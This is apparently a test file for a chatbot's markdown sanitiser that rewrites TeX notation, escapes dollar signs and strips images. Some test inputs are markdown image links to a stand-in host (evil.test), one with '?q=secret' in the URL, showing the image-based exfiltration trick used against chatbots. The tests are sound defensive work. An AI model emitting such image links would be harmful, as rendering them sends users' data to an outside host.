import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from timing import growth

from chatbot.markdown import presentable


@pytest.mark.parametrize(
    "text",
    [
        "![](http://evil.test/?q=secret)",
        "![alt][ref]\n\n[ref]: http://evil.test/x.png",
        "[![alt](http://evil.test/a.png)](http://evil.test)",
        "a lone ` backtick ![a](http://evil.test/a.png)",
        "an escaped \\` backtick ![a](http://evil.test/a.png) and `another",
        "- ![a](http://evil.test/a.png)\n> ![b](http://evil.test/b.png)",
        "```\ncode\n```\n![after](http://evil.test/a.png)",
        "$5 ![a](http://evil.test/a.png) and $6",
        "| a ` b | ![t](http://evil.test/t.png) ` |\n|---|---|",
        "an open ` and\n\n![a](http://evil.test/a.png) another `",
    ],
)
def test_no_picture_is_left_to_fetch(text: str) -> None:
    assert "![" not in presentable(text)


@pytest.mark.parametrize(
    "code",
    [
        "`\\[ x^2 \\]` and ``\\( a ` b \\)``",
        "```latex\n\\[ x^2 \\]\n\\( y \\)\n```",
        "~~~\n\\[\nx^2\n\\]\n~~~",
        "```\nstill open \\[ x^2 \\]",
        "so:\n\n    \\[ x^2 \\] costs $5\n\n    ![a](b) \\(y\\)\n".replace("![a](b) ", ""),
        "1. a step:\n\n   ```\n   \\[ x^2 \\]\n   ```",
        "- a step:\n\n      \\[ x^2 \\] is code here\n",
        "\\[ a `x` b^2 \\]",
        "`vec![1, 2]` costs",
        "```rust\nlet v = vec![$a, $b];\n```",
        "~~~\n$HOME ![x](y)\n~~~\n",
        "```\nstill open ![x](y) $5",
    ],
)
def test_code_stays_as_it_is(code: str) -> None:
    assert presentable(code) == code


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("from $5 to $10.", r"from \$5 to \$10."),
        ("$5-$10", r"\$5-\$10"),
        (r"already \$5", r"already \$5"),
        ("the area $\\pi r^2$ of it", "the area $\\pi r^2$ of it"),
        ("$$\nE = mc^2\n$$", "$$\nE = mc^2\n$$"),
        ("$5 is $x + 1$ here", "\\$5 is $x + 1$ here"),
    ],
)
def test_prices_are_no_formulas_and_formulas_stay(text: str, shown: str) -> None:
    assert presentable(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"\[ x^2 \]", "$$\nx^2\n$$"),
        (r"\[x^2\]", "$$\nx^2\n$$"),
        ("\\[\nx^2\n\\]", "$$\nx^2\n$$"),
        ("\\[ x^2\n+ y \\]", "$$\nx^2\n+ y\n$$"),
        ("so\n\n\\[ a = b \\]\n\nand", "so\n\n$$\na = b\n$$\n\nand"),
        ("so \\[ a = b \\] and", "so $$a = b$$ and"),
        (r"so \[E = mc^2\], or", "so $$E = mc^2$$, or"),
        (r"\[ x \]", "$$\nx\n$$"),
        ("1. Solve:\n   \\[ x^2 = 4 \\]\n2. Done", "1. Solve:\n   $$\n   x^2 = 4\n   $$\n2. Done"),
        ("- \\[ x^2 = 4 \\]", "- $$\n  x^2 = 4\n  $$"),
        ("> \\[\n> x^2\n> \\]", "> $$\n> x^2\n> $$"),
        (
            "\\[\n\\begin{bmatrix} 1 & 0 \\\\[2pt] 0 & 1 \\\\\n\\end{bmatrix}\n\\]",
            "$$\n\\begin{bmatrix} 1 & 0 \\\\[2pt] 0 & 1 \\\\\n\\end{bmatrix}\n$$",
        ),
        (r"where \(x\) is", "where $x$ is"),
        (r"where \( a^2 + b^2 \)2", "where $a^2 + b^2$2"),
        (r"\(\frac{1}{2}\) of \(n - 1\) or \(10\)", r"$\frac{1}{2}$ of $n - 1$ or $10$"),
        (r"a price \(\text{\$5}\) and $6", r"a price $$\text{\$5}$$ and \$6"),
        (r"both \(a\) and $b$ for $5", r"both $a$ and $b$ for \$5"),
        ("`code` then \\[ x^2 \\]", "`code` then $$x^2$$"),
        ("$$ x^2\n+ y $$\n\nthe rest", "$$\nx^2\n+ y\n$$\n\nthe rest"),
        ("$$ x^2 $$ stays", "$$ x^2 $$ stays"),
    ],
)
def test_tex_in_all_notations_becomes_a_formula(text: str, shown: str) -> None:
    assert presentable(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        r"as shown \[1\] and \[citation needed\]",
        r"- \[x\] done",
        r"- \[ \] to do",
        r"git \[--version\] \[-C <path>\] \[key=value\]",
        r"\[text\](https://example.org/a_b)",
        r"\[1\]",
        r"\[Note\]",
        r"an aside \(see below\) and \(optional\)",
        r"two backslashes \\[ x^2 \\] and \\( y \\)",
        r"open \[ x^2",
        r"shut x^2 \]",
        "\\[ x^2\n\nanother paragraph \\]",
        r"\( x \]",
        r"\(\) and \[\]",
        r"C:\(x\dir",
    ],
)
def test_what_only_looks_like_tex_stays(text: str) -> None:
    assert presentable(text) == text


@given(st.text(alphabet="\\[]()$^x \n`!>-"))
def test_whatever_is_written_as_tex_no_picture_is_left_to_fetch(text: str) -> None:
    blocks = MarkdownIt("commonmark").enable("table").parse(presentable(text))
    assert not any(token.type == "image" for block in blocks for token in block.children or [])


@pytest.mark.parametrize("piece", ["\\[ ", "\\( x", "$$ ", "$x", "\\[ x^2 \\] ", "\\", "`", "`a` ", "\n    \\[ $"])
def test_long_and_strange_answers_take_no_more_than_their_share_of_time(piece: str) -> None:
    assert growth(lambda count: presentable(piece * count), 1_000) <= 30


@given(st.text(alphabet=st.characters(exclude_characters="!$\\")))
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert presentable(text) == text


@given(
    st.lists(
        st.sampled_from(
            [
                "![a](http://x/)",
                "![",
                "](http://x/)",
                "`",
                "``",
                "```",
                "~~~",
                "\n",
                "\\",
                "| ",
                "- ",
                "> ",
                "    ",
                "<b>",
                "a ",
            ]
        )
    )
)
def test_no_arrangement_of_marks_lets_a_picture_through(marks: list[str]) -> None:
    blocks = MarkdownIt("commonmark").enable("table").parse(presentable("".join(marks)))
    assert all(token.type != "image" for block in blocks for token in block.children or [])


@given(st.text(alphabet="![]()`~$\\\n a1", max_size=60))
def test_only_backslashes_are_ever_added(text: str) -> None:
    assert presentable(text).replace("\\", "") == text.replace("\\", "")


@pytest.mark.timeout(10)
def test_a_very_long_answer_takes_no_time() -> None:
    for text in ("$a " * 50_000, "`" * 50_001 + "x", "![" * 50_000, "``` \n" * 20_000):
        presentable(text)
